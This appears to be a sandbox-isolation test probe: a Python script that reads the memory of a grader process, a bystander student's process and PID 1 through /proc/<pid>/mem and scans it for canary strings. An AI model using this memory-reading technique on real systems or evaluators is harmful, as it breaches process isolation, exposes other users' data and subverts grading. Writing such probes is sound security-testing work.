"""The memory of the grader and of another student's process is read through /proc.

gains: read
"""

# %%
import os, re

for pid in {BYSTANDER, os.getppid(), 1}:
    try:
        maps, memory = open(f"/proc/{pid}/maps").read().splitlines(), open(f"/proc/{pid}/mem", "rb")
    except OSError:
        continue
    for line in maps:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if " rw" in line and (line.endswith("]") or len(line.split()) < 6) and end - start < 512 << 20:
            try:
                memory.seek(start)
                print(set(re.findall(rb"CANARY-[A-Z]+-[0-9a-f]+", memory.read(end - start))))
            except (OSError, ValueError, OverflowError):
                pass
